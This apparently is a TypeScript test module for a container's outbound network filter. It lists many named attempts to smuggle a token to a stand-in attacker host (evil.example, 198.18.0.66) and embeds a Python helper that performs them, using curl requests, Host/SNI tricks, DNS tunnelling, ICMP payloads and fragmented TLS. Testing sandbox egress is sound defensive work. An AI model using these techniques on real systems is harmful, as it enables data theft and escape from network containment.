/** One way to get a token out of the container. It succeeded when the token arrived at the fake internet, in any form. */
export interface Attack {
  readonly name: string;
  /** A bash script; `attack.py` (below) is at /tmp/attack.py in the container. */
  readonly script: (token: string) => string;
  /** Needs a network with IPv6. */
  readonly ipv6?: true;
}

export const addresses = {
  dns: ['198.18.0.53', '2001:2::53'],
  allowed: ['198.18.0.10', '2001:2::10'],
  /** Serves allowed sites and the attacker's alike, as a CDN does. */
  shared: ['198.18.0.20', '2001:2::20'],
  attacker: ['198.18.0.66', '2001:2::66'],
} as const;

const [evil4, evil6] = addresses.attacker;
const [good4, good6] = addresses.allowed;
const [cdn4, cdn6] = addresses.shared;
const [dns4, dns6] = addresses.dns;

const curl = (url: string, ...more: string[]): string =>
  `curl -sS -k -m 4 -g --noproxy '*' ${more.join(' ')} '${url}'`;
const pin = (name: string, port: number, address: string): string =>
  `--resolve '${name}:${port}:${address.includes(':') ? `[${address}]` : address}'`;
const py = (...words: (string | number)[]): string =>
  `python3 /tmp/attack.py ${words.map((word) => `'${word}'`).join(' ')}`;

const byName: Attack[] = [
  { name: 'HTTP to a name that is not listed', script: (t) => curl(`http://evil.example/${t}`) },
  { name: 'HTTPS to a name that is not listed', script: (t) => curl(`https://evil.example/${t}`) },
  { name: 'a name that only ends like a listed one', script: (t) => curl(`http://notallowed.example/${t}`) },
  {
    name: 'a name that begins with a listed one',
    script: (t) => curl(`http://allowed.example.evil.example/${t}`),
  },
  { name: 'a name below a listed one', script: (t) => curl(`http://below.allowed.example/${t}`) },
  {
    name: 'a name that ends like a listed suffix without its dot',
    script: (t) => curl(`http://notsuffix.example/${t}`),
  },
  {
    name: 'a listed name in the user part of an address',
    script: (t) => curl(`http://allowed.example@evil.example/${t}`),
  },
  { name: 'another port of a listed name', script: (t) => curl(`http://allowed.example:8080/${t}`) },
  {
    name: 'a port that is open for another name only',
    script: (t) => `getent hosts ssh.example; ${py('tcp', evil4, 22, t)}`,
  },
];

const byAddress: Attack[] = [
  ...[22, 25, 53, 80, 123, 443, 853, 3128, 5432, 8080, 8443, 15443].map((port) => ({
    name: `TCP ${port} to a raw address`,
    script: (t: string) => py('tcp', evil4, port, t),
  })),
  ...[53, 123, 443, 500, 4500, 5353, 51820].map((port) => ({
    name: `UDP ${port} to a raw address`,
    script: (t: string) => py('udp', evil4, port, t),
  })),
  ...[22, 80, 443, 8080].map((port) => ({
    name: `TCP ${port} to a raw IPv6 address`,
    script: (t: string) => py('tcp', evil6, port, t),
    ipv6: true as const,
  })),
  ...[53, 443].map((port) => ({
    name: `UDP ${port} to a raw IPv6 address`,
    script: (t: string) => py('udp', evil6, port, t),
    ipv6: true as const,
  })),
  { name: 'an IPv4-mapped IPv6 address', script: (t) => py('tcp', `::ffff:${evil4}`, 80, t) },
  { name: 'a datagram in fragments', script: (t) => py('udp', evil4, 4500, t, 4000) },
  { name: 'a datagram in fragments over IPv6', script: (t) => py('udp', evil6, 4500, t, 4000), ipv6: true },
  { name: 'ICMP echo with a payload', script: (t) => py('icmp', evil4, 0, t) },
  { name: 'ICMPv6 echo with a payload', script: (t) => py('icmp', evil6, 0, t), ipv6: true },
  { name: 'TCP fast open, data in the first packet', script: (t) => py('fastopen', evil4, 80, t) },
  {
    name: 'QUIC to a listed site',
    script: (t) => `getent hosts allowed.example; ${py('udp', good4, 443, t)}`,
  },
  {
    name: 'QUIC to a listed site over IPv6',
    script: (t) => `getent hosts allowed.example; ${py('udp', good6, 443, t)}`,
    ipv6: true,
  },
  { name: 'TCP from a low source port', script: (t) => py('source53', evil4, 80, t) },
];

const byProxy: Attack[] = [
  {
    name: 'a listed name pinned to a foreign address, HTTP',
    script: (t) => curl(`http://allowed.example/${t}`, pin('allowed.example', 80, evil4)),
  },
  {
    name: 'a listed name pinned to a foreign address, HTTPS',
    script: (t) => curl(`https://allowed.example/${t}`, pin('allowed.example', 443, evil4)),
  },
  {
    name: 'a foreign Host at a shared address',
    script: (t) =>
      `${curl('http://cdn.example/')}; ${curl(`http://evil.example/${t}`, pin('evil.example', 80, cdn4))}`,
  },
  {
    name: 'a foreign SNI at a shared address',
    script: (t) =>
      `${curl('https://cdn.example/')}; ${curl(`https://evil.example/${t}`, pin('evil.example', 443, cdn4))}`,
  },
  {
    name: 'a foreign SNI at a shared address over IPv6',
    script: (t) =>
      `${curl('https://cdn.example/', '-6')}; ${curl(`https://evil.example/${t}`, pin('evil.example', 443, cdn6))}`,
    ipv6: true,
  },
  {
    name: 'TLS without SNI at a shared address',
    script: (t) => `${curl('https://cdn.example/')}; ${py('tls', cdn4, 443, t, '')}`,
  },
  { name: 'TLS with an address as its name', script: (t) => curl(`https://${cdn4}/${t}`) },
  {
    name: 'a listed SNI with something glued to it',
    script: (t) => py('tls', cdn4, 443, t, 'allowed.example.evil.example'),
  },
  {
    name: 'a listed SNI between others',
    script: (t) => py('tls', cdn4, 443, t, 'x.allowed.example.evil.example'),
  },
  {
    name: 'no TLS on port 443 of a shared address',
    script: (t) => `${curl('https://cdn.example/')}; ${py('tcp', cdn4, 443, t)}`,
  },
  { name: 'TLS in many small pieces', script: (t) => py('tls-pieces', evil4, 443, t, 'evil.example') },
  { name: 'HTTP without Host', script: (t) => py('raw', cdn4, 80, `GET /${t} HTTP/1.0\\r\\n\\r\\n`) },
  {
    name: 'HTTP with two Hosts, the foreign one last',
    script: (t) =>
      py('raw', cdn4, 80, `GET /${t} HTTP/1.1\\r\\nHost: cdn.example\\r\\nHost: evil.example\\r\\n\\r\\n`),
  },
  {
    name: 'HTTP with two Hosts, the foreign one first',
    script: (t) =>
      py('raw', cdn4, 80, `GET /${t} HTTP/1.1\\r\\nHost: evil.example\\r\\nHost: cdn.example\\r\\n\\r\\n`),
  },
  {
    name: 'HTTP CONNECT through a listed site',
    script: (t) =>
      py('raw', cdn4, 80, `CONNECT evil.example:80 HTTP/1.1\\r\\nHost: cdn.example\\r\\nX: ${t}\\r\\n\\r\\n`),
  },
  {
    name: 'a foreign Host in the second request of a connection',
    script: (t) =>
      py(
        'raw',
        cdn4,
        80,
        `GET / HTTP/1.1\\r\\nHost: cdn.example\\r\\n\\r\\nGET /${t} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n`,
      ),
  },
  {
    name: 'an absolute address with a foreign host',
    script: (t) =>
      py('raw', cdn4, 80, `GET http://evil.example/${t} HTTP/1.1\\r\\nHost: cdn.example\\r\\n\\r\\n`),
  },
  { name: 'another protocol on port 80', script: (t) => py('raw', cdn4, 80, `SSH-2.0-${t}\\r\\n`) },
  {
    name: 'the proxy asked by hand',
    script: (t) =>
      `${curl(`http://evil.example/${t}`, "-x 'http://127.0.0.1:15080'")}; ${curl(`http://evil.example/${t}`)}`,
  },
];

const byDns: Attack[] = [
  { name: 'a DNS tunnel through the system resolver', script: (t) => `getent hosts ${t}.tunnel.example` },
  { name: 'a DNS tunnel below a listed name', script: (t) => `getent hosts ${t}.allowed.example` },
  { name: 'a DNS tunnel below a name with a port', script: (t) => `getent hosts ${t}.ssh.example` },
  { name: 'a DNS tunnel in TXT', script: (t) => py('dns', 'resolver', 53, `${t}.tunnel.example`, 16) },
  { name: 'a DNS tunnel in NULL', script: (t) => py('dns', 'resolver', 53, `${t}.tunnel.example`, 10) },
  {
    name: 'a DNS tunnel over TCP to the resolver',
    script: (t) => py('dns-tcp', 'resolver', 53, `${t}.tunnel.example`, 16),
  },
  { name: 'a DNS tunnel in EDNS padding', script: (t) => py('dns-edns', 'resolver', 53, 'evil.example', t) },
  { name: 'DNS straight to the attacker', script: (t) => py('dns', evil4, 53, `${t}.tunnel.example`, 1) },
  {
    name: 'DNS over TCP straight to the attacker',
    script: (t) => py('dns-tcp', evil4, 53, `${t}.tunnel.example`, 1),
  },
  {
    name: 'DNS straight to the upstream server',
    script: (t) => py('dns', dns4, 53, `${t}.tunnel.example`, 1),
  },
  {
    name: 'DNS straight to an IPv6 server',
    script: (t) => py('dns', evil6, 53, `${t}.tunnel.example`, 1),
    ipv6: true,
  },
  {
    name: 'DNS straight to the upstream server over IPv6',
    script: (t) => py('dns', dns6, 53, `${t}.tunnel.example`, 1),
    ipv6: true,
  },
  { name: 'DNS over HTTPS', script: (t) => curl(`https://doh.example/dns-query?name=${t}`) },
  {
    name: 'multicast DNS',
    script: (t) => `${py('udp', '224.0.0.251', 5353, t)}; ${py('udp', evil4, 5353, t)}`,
  },
];

export const attacks: readonly Attack[] = [...byName, ...byAddress, ...byProxy, ...byDns];

/** What bash and curl cannot send. Usage: attack.py KIND ADDRESS PORT TOKEN [MORE]. */
export const attackProgram = String.raw`
import socket, ssl, struct, sys, time
kind, address, port, token = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
more = sys.argv[5] if len(sys.argv) > 5 else ''
if address == 'resolver':
    address = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
family = socket.AF_INET6 if ':' in address else socket.AF_INET
data = token.encode().decode('unicode_escape').encode('latin1')

def query(name, kind, extra=b''):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', 0x1234, 0x100, 1, 0, 0, 1 if extra else 0) + labels + struct.pack('>HH', kind, 1) + extra

def connect():
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    if kind == 'source53':
        s.bind(('', 1024))
    s.connect((address, port))
    return s

def finish(s):
    try:
        s.recv(2000); s.settimeout(0.5); s.recv(2000)
    except OSError:
        pass

if kind in ('tcp', 'raw', 'source53'):
    s = connect(); s.sendall(data + (b'' if kind == 'raw' else b'\r\n\r\n')); finish(s)
elif kind == 'udp':
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(data + b'.' * (int(more or 0)), (address, port)); time.sleep(0.05)
elif kind == 'icmp':
    six = family == socket.AF_INET6
    s = socket.socket(family, socket.SOCK_DGRAM, 58 if six else 1)
    s.sendto(struct.pack('>BBHHH', 128 if six else 8, 0, 0, 1, 1) + data, (address, 0)); time.sleep(0.05)
elif kind == 'fastopen':
    s = socket.socket(family, socket.SOCK_STREAM)
    s.sendto(data + b'\r\n\r\n', 0x20000000, (address, port)); s.settimeout(3); finish(s)
elif kind == 'tls':
    context = ssl._create_unverified_context()
    s = context.wrap_socket(connect(), server_hostname=more or None)
    s.sendall(b'GET /' + data + b' HTTP/1.0\r\n\r\n'); finish(s)
elif kind == 'tls-pieces':
    context = ssl._create_unverified_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=more)
    s = connect()
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    def flush():
        for byte in outgoing.read():
            s.sendall(bytes([byte])); time.sleep(0.0005)
    while True:
        try:
            tls.do_handshake(); flush(); break
        except ssl.SSLWantReadError:
            flush(); incoming.write(s.recv(65536) or sys.exit(1))
    tls.write(b'GET /' + data + b' HTTP/1.0\r\n\r\n'); flush(); finish(s)
elif kind == 'dns':
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(query(token, int(more)), (address, port)); finish(s)
elif kind == 'dns-edns':
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2)
    payload = more.encode()
    option = struct.pack('>HH', 65001, len(payload)) + payload
    s.sendto(query(token, 1, b'\0' + struct.pack('>HHIH', 41, 1232, 0, len(option)) + option), (address, port)); finish(s)
elif kind == 'dns-tcp':
    s = connect(); message = query(token, int(more))
    s.sendall(struct.pack('>H', len(message)) + message); s.recv(2000)
else:
    sys.exit('unknown kind ' + kind)
`;

let count = 0;
/** A token that no other attempt of this run used; a DNS label. */
export function newToken(): string {
  count += 1;
  return `t${process.pid}x${Date.now().toString(36)}x${count}`;
}
